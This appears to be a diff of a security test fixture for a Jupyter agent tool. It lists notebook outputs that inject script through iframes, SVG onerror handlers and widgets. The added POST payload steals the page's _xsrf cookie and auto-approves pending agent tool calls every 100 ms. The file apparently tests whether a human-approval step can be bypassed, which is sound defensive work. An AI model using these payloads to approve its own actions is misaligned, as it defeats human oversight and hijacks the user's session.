@@ -44,20 +44,24 @@ OUTPUTS = {
     "handler": Output(f"from IPython.display import HTML\nHTML({IMAGE})", "HTML with event handlers"),
     "frame": Output(
         "from IPython.display import HTML\nimport html\n"
-        "HTML('<iframe srcdoc=\"' + html.escape('<script>parent.eval(' + repr(SCRIPT) + ')</script>') + '\"></iframe>')",
+        "inner = html.escape('<script>parent.eval(' + repr(SCRIPT) + ')</script>')\n"
+        "HTML('<iframe srcdoc=\"' + inner + '\"></iframe>')",
         "HTML with a frame",
     ),
     "svg": Output(
         "from IPython.display import HTML\n"
-        "HTML('<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"x:\" onerror=\\''"
+        'HTML(\'<svg xmlns="http://www.w3.org/2000/svg"><image href="x:" onerror=\\\'\''
         " + SCRIPT.replace(chr(39), '&#39;') + '\\'/></svg>')",
         "HTML with event handlers",
     ),
     "isolated": Output(
-        BUNDLE + "display({'text/html': '<script>parent.eval(' + repr(SCRIPT) + ')</script>'}, metadata={'isolated': True},"
+        BUNDLE
+        + "display({'text/html': '<script>parent.eval(' + repr(SCRIPT) + ')</script>'}, metadata={'isolated': True},"
         " raw=True)"
     ),
-    "markdown": Output(f"from IPython.display import Markdown\nMarkdown('# Title\\n\\n' + {IMAGE})", "HTML with event handlers"),
+    "markdown": Output(
+        f"from IPython.display import Markdown\nMarkdown('# Title\\n\\n' + {IMAGE})", "HTML with event handlers"
+    ),
     "html-widget": Output(f"{WIDGETS}w.HTML('before ' + {IMAGE})", "HTML with event handlers"),
     "html-math-widget": Output(f"{WIDGETS}w.HTMLMath('before ' + {IMAGE})", "HTML with event handlers"),
     "anywidget": Output(f"{ANYWIDGET}Evil()", "Widget of the module anywidget"),
@@ -87,3 +91,25 @@ OUTPUTS = {
         BUNDLE + "display({'application/javascript': SCRIPT, 'text/html': '<b>harmless</b>'}, raw=True)"
     ),
 }
+
+#: Looks for requests of a notebook and allows them, with the session of whoever looks at the page.
+POST = """
+const token = document.cookie.match(/_xsrf=([^;]+)/)[1];
+window.posting = setInterval(async () => {
+  const found = await (await fetch('/jupyter-agentbox/approvals?status=pending')).json();
+  for (const {id, call} of found.approvals) {
+    await fetch(`/jupyter-agentbox/approvals/${id}/decision`, {
+      method: 'POST',
+      headers: {'X-XSRFToken': token, 'Content-Type': 'application/json'},
+      body: JSON.stringify({decision: 'allow_once', digest: call.digest}),
+    });
+  }
+}, 100);
+"""
+POST_AS_JAVASCRIPT = f"from IPython.display import Javascript\ndisplay(Javascript({POST!r}))\n"
+POST_AS_ANYWIDGET = f"""import anywidget
+class Poster(anywidget.AnyWidget):
+    _esm = "export default {{ initialize() {{" + {POST!r} + "}} }}"
+display(Poster())
+"""
+ASK = "from jupyter_agentbox import tools\ntools.shop.list_orders(limit=1)"
